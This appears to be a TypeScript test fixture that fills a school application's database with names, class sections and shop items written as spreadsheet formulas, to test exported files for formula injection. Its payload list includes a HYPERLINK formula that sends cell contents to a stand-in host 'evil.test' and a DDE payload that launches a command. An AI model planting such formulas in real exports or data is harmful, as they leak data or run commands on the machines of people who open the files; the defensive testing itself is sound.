import { calls } from '#contract/app/calls.ts';
import type { NamedInAddresses } from '#testkit/browser/every-route.ts';
import type { BlackBox } from '#testkit/process/black-box.ts';
import { givePoints, signedInAdmin, signedInProfessor, signedInStudent } from '#testkit/school/people.ts';
import { addSession, addSubject, scanStudent } from '#testkit/school/teaching.ts';

/** Texts that spreadsheets execute as formulas, and texts that break lines and cells of a file. */
export const formulas: readonly string[] = [
  '=1+1',
  '+1+1',
  '-1+1',
  '@SUM(1;1)',
  '=HYPERLINK("http://evil.test/?"&A1,"x")',
  "=cmd|' /C calc'!A0",
  '\uFF1D1+1',
  '\uFF0B1+1',
  '\uFF0D1+1',
  '\uFF20SUM(1)',
  '=1\nb',
  '\t=1+1',
  'a"b',
  'a""=1',
  'a;=1+1;b',
  'a";=1+1;"',
  'a,=1+1,b',
  'a\r\nb',
  '\uFEFF=1+1',
  "'=1+1",
  ' =1+1',
];

/** A student's names, each a different formula. */
export function formulaNames(index: number) {
  const at = (offset: number) => formulas[(index + offset) % formulas.length] ?? '';
  return { first_name: at(0), middle_name: at(1), last_name: at(2) };
}

/** The program level of the class, which also appears in file names. */
export const FORMULA_PROGRAM = '=1+1;-1';

/** A school in which every exported text is a formula. */
export interface FormulaSchool {
  student: { token: string };
  professor: { token: string };
  admin: { token: string };
  made: NamedInAddresses;
}

/** Fills the school. Texts that no call accepts, such as line breaks, are written directly to the database. */
export function formulaSchool(box: BlackBox): Promise<FormulaSchool> {
  return box.closed(async (school) => {
    const admin = await signedInAdmin(school);
    const professor = await signedInProfessor(school);
    const { headers } = professor;
    const pupils: Awaited<ReturnType<typeof signedInStudent>>[] = [];
    for (const index of formulas.keys()) {
      const courseYearSection = FORMULA_PROGRAM;
      pupils.push(await signedInStudent(school, { ...formulaNames(index), courseYearSection, username: `f${index}` }));
      const { first_name, last_name } = formulaNames(index);
      await signedInProfessor(school, { first_name, last_name, username: `f${index}` });
      await signedInStudent(school, { courseYearSection: formulas[index] ?? '', username: `p${index}` });
    }
    const [student] = pupils;
    if (!student) throw new Error('nobody');
    await givePoints(school, student.stud_id, 1000);
    const [className, eventName] = ['=1+1', '@SUM(1)'];
    const subject = await addSubject(school, professor, className, FORMULA_PROGRAM);
    const event = await addSubject(school, professor, eventName, '');
    const meeting = async (subjectId: number, program: string) => {
      const class_id = await addSession(school, professor, subjectId, { program, points: 1, exp: 1 });
      for (const each of pupils.slice(0, 3)) await scanStudent(school, professor, class_id, each);
      return class_id;
    };
    const classSession = await meeting(subject, FORMULA_PROGRAM);
    const eventSession = await meeting(event, '');
    for (const [index, item_name] of formulas.entries()) {
      const item = {
        item_name: `i${index}`,
        item_subject: 's',
        item_quantity: 1,
        item_price: 1,
        item_classSection: FORMULA_PROGRAM,
      };
      const { item_id } = (await school.ask(calls.createItems, { headers, body: item })).reply.item;
      const bought = await school.ask(calls.buyStudentShopItems, { headers: student.headers, params: { item_id } });
      const { transaction_id } = bought.reply.transaction;
      await school.services.database.write((db) =>
        db
          .updateTable('shop_transaction')
          .set({ item_name, item_subject: formulas[(index + 5) % formulas.length] ?? '' })
          .where('transaction_id', '=', transaction_id)
          .execute(),
      );
    }
    return {
      student,
      professor,
      admin,
      made: {
        class: subject,
        className,
        event,
        eventName,
        classSession,
        eventSession,
        program: FORMULA_PROGRAM,
      },
    };
  });
}
